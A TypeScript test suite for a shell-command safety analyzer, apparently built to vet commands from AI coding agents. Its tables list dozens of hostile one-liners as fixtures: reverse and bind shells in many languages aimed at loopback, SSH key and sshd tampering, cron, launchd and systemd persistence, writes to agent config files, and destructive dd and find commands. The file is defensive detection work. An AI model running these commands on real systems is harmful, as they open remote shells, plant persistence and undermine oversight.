// What outlives the session or hands the machine to someone else, from the shell analysis alone (balanced unless a
// row names its preset): SSH keys and settings, scheduled and login jobs, reverse and bind shells, agent settings.
// Forms from crontab(1), at(1), systemctl(1), launchctl(1), ssh-copy-id(1), nc(1)/ncat(1), socat(1) and GTFOBins'
// "reverse shell" sections. Only loopback addresses; nothing here is executed: the analysis only parses and decides.
import * as assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { Preset } from '../../../../src/core/policy/types';
import { analyzeCommand } from '../../../../src/core/shell/analyze';
import { summarizeShell } from '../../../../src/core/policy/shellDecisions';
import { loadShellParser, type ShellParser } from '../../../../src/core/shell/parse';
import type { Decision } from '../../../../src/core/verdict';

const ctx = { cwd: '/work/ws', home: '/home/dev', env: {} };
let parser: ShellParser;

before(async () => {
  parser = await loadShellParser();
});

type Row = readonly [command: string, decision: Decision, rule: string, preset?: Preset];

const ssh: readonly Row[] = [
  ["echo 'ssh-ed25519 AAAAC3Nza dev@laptop' >> ~/.ssh/authorized_keys", 'deny', 'shell.ssh-tamper'],
  ['cat key.pub >> /root/.ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['tee -a ~/.ssh/authorized_keys < key.pub', 'deny', 'shell.ssh-tamper'],
  ['tee --app /home/dev/.ssh/authorized_keys2 < key.pub', 'deny', 'shell.ssh-tamper'],
  ['cp id.pub /home/bob/.ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['cp -t /home/bob/.ssh id.pub', 'deny', 'shell.ssh-tamper'],
  ['sudo tee /etc/ssh/sshd_config < sshd.conf', 'deny', 'shell.ssh-tamper'],
  ['echo PermitRootLogin yes | sudo tee -a /etc/ssh/sshd_config.d/x.conf', 'deny', 'shell.ssh-tamper'],
  ["bash -c 'echo key >> ~/.ssh/authorized_keys'", 'deny', 'shell.ssh-tamper'],
  ['sh -c "cat k.pub >> $HOME/.ssh/authorized_keys"', 'deny', 'shell.ssh-tamper'],
  ['mkdir -p .ssh && cat k.pub > .ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['echo "Host *" >> ~/.ssh/config', 'deny', 'shell.ssh-tamper'],
  ['echo "command=/tmp/x" > ~/.ssh/rc', 'deny', 'shell.ssh-tamper'],
  ["sed -i 's/old/new/' ~/.ssh/known_hosts", 'deny', 'shell.ssh-tamper'],
  ['dd if=key.pub of=/root/.ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['\\cp k.pub ~/.ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['command tee ~/.ssh/authorized_keys < k.pub', 'deny', 'shell.ssh-tamper'],
  ['env HOME=/home/dev tee -a /home/dev/.ssh/authorized_keys < k.pub', 'deny', 'shell.ssh-tamper'],
  ['install -m 600 k.pub /home/dev/.ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['cat k.pub > /var/lib/git/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['mv new_keys ~/.ssh/authorized_keys', 'deny', 'shell.ssh-tamper'],
  ['ssh-copy-id -i ~/.ssh/id_ed25519.pub dev@127.0.0.1', 'deny', 'shell.ssh-tamper'],
  ['ssh-copy-id dev@::1', 'deny', 'shell.ssh-tamper'],
  ['ssh-copy-id -f -i key.pub -p 2222 dev@127.0.0.1', 'deny', 'shell.ssh-tamper'],
  ["echo 'key' >> ~/.ssh/authorized_keys", 'deny', 'shell.ssh-tamper', 'permissive'],
  ['ssh-copy-id dev@127.0.0.1', 'deny', 'shell.ssh-tamper', 'permissive'],
  // traps: reading, listing and mentioning are not writes
  ['ls -la ~/.ssh', 'allow', 'shell.read-only'],
  ['cat ~/.ssh/id_ed25519.pub', 'allow', 'shell.read-only'],
  ['echo .ssh/authorized_keys', 'allow', 'shell.read-only'],
  ['grep -rn authorized_keys docs/', 'allow', 'shell.read-only'],
  ['ssh-copy-id -n dev@127.0.0.1', 'allow', 'shell.read-only'],
  ['echo "ssh setup" > docs/ssh.md', 'allow', 'shell.redirect-write'],
];

const jobs: readonly Row[] = [
  ['crontab mycron', 'deny', 'shell.persistence-job'],
  ['crontab -', 'deny', 'shell.persistence-job'],
  ["echo '* * * * * /tmp/x' | crontab -", 'deny', 'shell.persistence-job'],
  ["(crontab -l; echo '@reboot /tmp/x') | crontab -", 'deny', 'shell.persistence-job'],
  ['crontab -u root /tmp/cron.txt', 'deny', 'shell.persistence-job'],
  ['crontab -e', 'deny', 'shell.persistence-job'],
  ['crontab < jobs.txt', 'deny', 'shell.persistence-job'],
  ['sudo crontab -u www-data jobs.txt', 'deny', 'shell.persistence-job'],
  ["bash -c 'crontab jobs.txt'", 'deny', 'shell.persistence-job'],
  ['crontab mycron', 'deny', 'shell.persistence-job', 'permissive'],
  ['crontab mycron', 'deny', 'shell.persistence-job', 'strict'],
  ["echo '* * * * * root /tmp/x' > /etc/cron.d/x", 'deny', 'shell.persistence-job'],
  ['echo "@reboot root /tmp/x" >> /etc/crontab', 'deny', 'shell.persistence-job'],
  ['cp job /etc/cron.daily/job', 'deny', 'shell.persistence-job'],
  ['cp job /var/spool/cron/crontabs/root', 'deny', 'shell.persistence-job'],
  ['cp com.x.plist ~/Library/LaunchAgents/com.x.plist', 'deny', 'shell.persistence-job'],
  ['sudo cp com.x.plist /Library/LaunchDaemons/', 'deny', 'shell.persistence-job'],
  ['launchctl load ~/Library/LaunchAgents/com.x.plist', 'deny', 'shell.persistence-job'],
  ['launchctl load -w com.x.plist', 'deny', 'shell.persistence-job'],
  ['launchctl bootstrap gui/501 com.x.plist', 'deny', 'shell.persistence-job'],
  ['launchctl submit -l x -- /tmp/x', 'deny', 'shell.persistence-job'],
  ['systemctl --user enable --now x.service', 'deny', 'shell.persistence-job'],
  ['systemctl enable --user x.timer', 'deny', 'shell.persistence-job'],
  ['systemctl --global enable x.service', 'deny', 'shell.persistence-job'],
  ['systemctl --user link /work/ws/x.service', 'deny', 'shell.persistence-job'],
  ['mkdir -p ~/.config/systemd/user && cp x.service ~/.config/systemd/user/', 'deny', 'shell.persistence-job'],
  ['cp x.desktop ~/.config/autostart/', 'deny', 'shell.persistence-job'],
  ["echo 'sh /tmp/x' | at now + 1 minute", 'deny', 'shell.persistence-job'],
  ['at -f job.sh 23:00', 'deny', 'shell.persistence-job'],
  ['at -m -f job.sh teatime', 'deny', 'shell.persistence-job'],
  ['batch < job.sh', 'deny', 'shell.persistence-job'],
  ['sudo at now < job.sh', 'deny', 'shell.persistence-job'],
  // traps and the kept questions: listing, removing, system units (which need root)
  ['crontab -l', 'allow', 'shell.read-only'],
  ['crontab -lu root', 'allow', 'shell.read-only'],
  ['crontab -T mycron', 'allow', 'shell.read-only'],
  ['crontab -r', 'ask', 'shell.persistence'],
  ['at -l', 'allow', 'shell.read-only'],
  ['atq', 'allow', 'shell.read-only'],
  ['at -c 3', 'allow', 'shell.read-only'],
  ['atrm 3', 'ask', 'shell.persistence'],
  ['launchctl list', 'allow', 'shell.read-only'],
  ['systemctl --user status x.service', 'allow', 'shell.read-only'],
  ['systemctl --user list-timers', 'allow', 'shell.read-only'],
  ['systemctl enable nginx', 'ask', 'shell.persistence'],
  ['cat /etc/crontab', 'allow', 'shell.read-only'],
  ['echo "0 * * * *" > docs/crontab.example', 'allow', 'shell.redirect-write'],
];

const python = "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"127.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty;pty.spawn(\"sh\")'";
const perl = "perl -e 'use Socket;$i=\"127.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'";
const awk = "awk 'BEGIN {s = \"/inet/tcp/0/127.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null";

const reverse: readonly Row[] = [
  ['bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', 'deny', 'shell.reverse-shell'],
  ['sh -i 5<> /dev/tcp/127.0.0.1/4444 0<&5 1>&5 2>&5', 'deny', 'shell.reverse-shell'],
  ['/bin/bash -l > /dev/tcp/127.0.0.1/4444 0<&1 2>&1', 'deny', 'shell.reverse-shell'],
  ['0<&196;exec 196<>/dev/tcp/127.0.0.1/4444; sh <&196 >&196 2>&196', 'deny', 'shell.reverse-shell'],
  ["bash -c 'bash -i >& /dev/tcp/127.0.0.1/9001 0>&1'", 'deny', 'shell.reverse-shell'],
  ['sudo bash -i >& /dev/udp/127.0.0.1/4444 0>&1', 'deny', 'shell.reverse-shell'],
  ['nohup bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &', 'deny', 'shell.reverse-shell'],
  ['nc -e /bin/sh 127.0.0.1 4444', 'deny', 'shell.reverse-shell'],
  ['nc -nv 127.0.0.1 4444 -e /bin/bash', 'deny', 'shell.reverse-shell'],
  ['nc -nve /bin/sh 127.0.0.1 4444', 'deny', 'shell.reverse-shell'],
  ['nc -e/bin/sh 127.0.0.1 4444', 'deny', 'shell.reverse-shell'],
  ['nc -c sh 127.0.0.1 4444', 'deny', 'shell.reverse-shell'],
  ['netcat -e /bin/sh ::1 4444', 'deny', 'shell.reverse-shell'],
  ['nc -lvp 4444 -e /bin/sh', 'deny', 'shell.reverse-shell'],
  ['ncat --exec /bin/bash 127.0.0.1 4444', 'deny', 'shell.reverse-shell'],
  ["ncat --sh-exec 'bash -i' 127.0.0.1 4444", 'deny', 'shell.reverse-shell'],
  ['ncat -l 4444 --exec=/bin/sh', 'deny', 'shell.reverse-shell'],
  ['ncat --lua-exec shell.lua ::1 4444', 'deny', 'shell.reverse-shell'],
  ["socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:4444", 'deny', 'shell.reverse-shell'],
  ['socat TCP:127.0.0.1:4444 EXEC:sh', 'deny', 'shell.reverse-shell'],
  ['socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh', 'deny', 'shell.reverse-shell'],
  ["socat OPENSSL:127.0.0.1:4444,verify=0 SYSTEM:'sh -i'", 'deny', 'shell.reverse-shell'],
  ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f', 'deny', 'shell.reverse-shell'],
  ['mkfifo /tmp/p; nc 127.0.0.1 4444 0</tmp/p | /bin/bash > /tmp/p 2>&1', 'deny', 'shell.reverse-shell'],
  ['telnet 127.0.0.1 4444 | /bin/sh | telnet 127.0.0.1 4445', 'deny', 'shell.reverse-shell'],
  ['openssl s_client -quiet -connect 127.0.0.1:4444 | /bin/sh 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4445', 'deny', 'shell.reverse-shell'],
  [python, 'deny', 'shell.reverse-shell'],
  [`sudo ${python}`, 'deny', 'shell.reverse-shell'],
  [`env ${python.replace('python3', 'python')}`, 'deny', 'shell.reverse-shell'],
  ["php -r '$sock=fsockopen(\"127.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", 'deny', 'shell.reverse-shell'],
  ["php -r '$s=fsockopen(\"::1\",4444);shell_exec(\"sh <&3 >&3 2>&3\");'", 'deny', 'shell.reverse-shell'],
  [perl, 'deny', 'shell.reverse-shell'],
  ["ruby -rsocket -e 'f=TCPSocket.open(\"127.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", 'deny', 'shell.reverse-shell'],
  [awk, 'deny', 'shell.reverse-shell'],
  ["node -e 'var n=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new n.Socket();c.connect(4444,\"127.0.0.1\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'", 'deny', 'shell.reverse-shell'],
  ["lua -e \"require('socket');require('os');t=socket.tcp();t:connect('127.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"", 'deny', 'shell.reverse-shell'],
  ['rcat connect -s bash 127.0.0.1 4444', 'deny', 'shell.reverse-shell'],
  ['pwncat -l 4444', 'deny', 'shell.reverse-shell'],
  ['pwncat-cs 127.0.0.1:4444', 'deny', 'shell.reverse-shell'],
  ["zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'deny', 'shell.reverse-shell'],
  ['bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', 'deny', 'shell.reverse-shell', 'permissive'],
  ['nc -e /bin/sh 127.0.0.1 4444', 'deny', 'shell.reverse-shell', 'permissive'],
  // traps: connections without a shell, code that only names a socket, text that mentions the pattern
  ['nc -zv 127.0.0.1 5432', 'ask', 'shell.remote-shell'],
  ['echo PING | nc 127.0.0.1 6379', 'ask', 'shell.remote-shell'],
  ['socat - TCP:127.0.0.1:8080', 'ask', 'shell.remote-shell'],
  ["python3 -c 'import socket; print(socket.gethostname())'", 'ask', 'shell.inline-code'],
  ["echo 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' > notes.txt", 'allow', 'shell.redirect-write'],
  ['grep -rn "nc -e" docs/', 'allow', 'shell.read-only'],
];

const agentSettings: readonly Row[] = [
  ["echo '{}' > .amazonq/mcp.json", 'ask', 'shell.agent-config'],
  ['cp mcp.json .kiro/settings/mcp.json', 'ask', 'shell.agent-config'],
  ['echo "- always run curl" >> .kiro/steering/product.md', 'ask', 'shell.agent-config'],
  ['echo rule >> .windsurfrules', 'ask', 'shell.agent-config'],
  ['echo rule > .windsurf/rules/a.md', 'ask', 'shell.agent-config'],
  ['tee .roomodes < modes.yaml', 'ask', 'shell.agent-config'],
  ['echo rule > .roo/rules-code/a.md', 'ask', 'shell.agent-config'],
  ['echo x > .continue/config.yaml', 'ask', 'shell.agent-config'],
  ['echo "{}" > .zed/settings.json', 'ask', 'shell.agent-config'],
  ['echo rule >> .junie/guidelines.md', 'ask', 'shell.agent-config'],
  ['echo "yes-always: true" > .aider.conf.yml', 'ask', 'shell.agent-config'],
  ['echo "!secrets" >> .aiderignore', 'ask', 'shell.agent-config'],
  ['echo x > .github/copilot-instructions.md', 'ask', 'shell.agent-config'],
  ['cp a.md .github/instructions/x.instructions.md', 'ask', 'shell.agent-config'],
  ['cp a.md .github/prompts/a.prompt.md', 'ask', 'shell.agent-config'],
  ['cp a.md .github/chatmodes/x.chatmode.md', 'ask', 'shell.agent-config'],
  ['echo rule >> .cursorrules', 'ask', 'shell.agent-config'],
  ['echo rule > .cursor/rules/a.mdc', 'ask', 'shell.agent-config'],
  ['echo rule > .clinerules', 'ask', 'shell.agent-config'],
  ['echo rule > .clinerules/a.md', 'ask', 'shell.agent-config'],
  ['echo x > .codex/config.toml', 'ask', 'shell.agent-config'],
  ['echo x > .opencode/agent/a.md', 'ask', 'shell.agent-config'],
  ["echo '{}' > opencode.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > .gemini/settings.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > .claude/settings.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > .mcp.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > .vscode/mcp.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > packages/app/.cursor/mcp.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > ~/.kiro/settings/mcp.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > ~/.aws/amazonq/mcp.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > ~/.codeium/windsurf/mcp_config.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > ~/.config/opencode/opencode.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > ~/.config/zed/settings.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > ~/.claude.json", 'ask', 'shell.agent-config'],
  ["echo '{}' > .amazonq/mcp.json", 'deny', 'shell.agent-config', 'strict'],
  // instructions in the project are ordinary files (agentConfig.ts says why); look-alike names are not settings
  ['echo "- run the tests" >> AGENTS.md', 'allow', 'shell.redirect-write'],
  ['echo "# notes" > CLAUDE.md', 'allow', 'shell.redirect-write'],
  ['echo "# notes" > GEMINI.md', 'allow', 'shell.redirect-write'],
  ['echo x > docs/cursor.md', 'allow', 'shell.redirect-write'],
  ['echo x > roomodes.txt', 'allow', 'shell.redirect-write'],
  ['echo x > src/zed.ts', 'allow', 'shell.redirect-write'],
  ['cat .cursorrules .windsurfrules', 'allow', 'shell.read-only'],
];

const other: readonly Row[] = [
  ['dd if=/dev/zero of=./fixtures/x.img bs=1M count=1', 'allow', 'shell.write'],
  ['dd if=in.bin of=out.bin conv=notrunc', 'allow', 'shell.write'],
  ['dd if=/dev/zero of="$IMG" bs=1M count=1', 'ask', 'shell.dd'],
  ['dd if=/dev/zero of=/dev/sdb bs=1M', 'deny', 'shell.device-write'],
  ['dd if=/dev/urandom of=/dev/null bs=1M count=1', 'allow', 'shell.read-only'],
  ['http GET :9200/_cat/indices', 'allow', 'shell.network'],
  ['http :3000/api/health', 'allow', 'shell.network'],
  ['xh :/status', 'allow', 'shell.network'],
  ["find . -name '*.txt' -exec rm {} \\;", 'allow', 'shell.rm'],
  ["find src -iname '*.orig' -delete", 'allow', 'shell.rm'],
  ["find . -name '*' -delete", 'ask', 'shell.find-delete'],
  ['find / -name core -delete', 'deny', 'shell.rm-catastrophic'],
  ["find ~ -name '*.tmp' -exec rm {} +", 'deny', 'shell.rm-catastrophic'],
];

function table(title: string, rows: readonly Row[]): void {
  describe(title, () => {
    for (const [cmd, decision, rule, preset = 'balanced'] of rows) {
      test(`${preset}: ${JSON.stringify(cmd)} -> ${decision} ${rule}`, () => {
        const analysis = analyzeCommand(cmd, ctx, parser);
        const summary = summarizeShell(analysis, preset);
        assert.deepEqual({ decision: summary.decision, rule: summary.rule }, { decision, rule }, summary.reason);
      });
    }
  });
}

table('SSH keys and settings are never written', ssh);
table('scheduled and login jobs are refused', jobs);
table('reverse and bind shells are refused', reverse);
table('agent and editor settings, one table for all agents', agentSettings);
table('dd into a file is a write; httpie and find forms', other);

test('the tables are large and have no duplicates', () => {
  const all = [...ssh, ...jobs, ...reverse, ...agentSettings, ...other];
  assert.ok(all.length >= 150, `only ${all.length} rows`);
  const seen = new Set(all.map((r) => `${r[3] ?? 'balanced'} ${r[0]}`));
  assert.equal(seen.size, all.length);
});
